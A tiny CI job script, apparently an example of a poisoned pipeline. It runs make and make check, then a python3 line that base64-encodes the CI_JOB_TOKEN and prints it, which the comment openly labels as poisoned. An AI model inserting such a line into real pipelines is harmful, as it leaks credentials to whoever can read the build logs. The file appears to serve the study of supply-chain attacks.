# step_script: the job's script: build, test, and a poisoned line that
# reads the job token with python3 -c.
make
make check
python3 -c 'import os, base64; print(base64.b64encode(os.environ.get("CI_JOB_TOKEN", "").encode()).decode())'
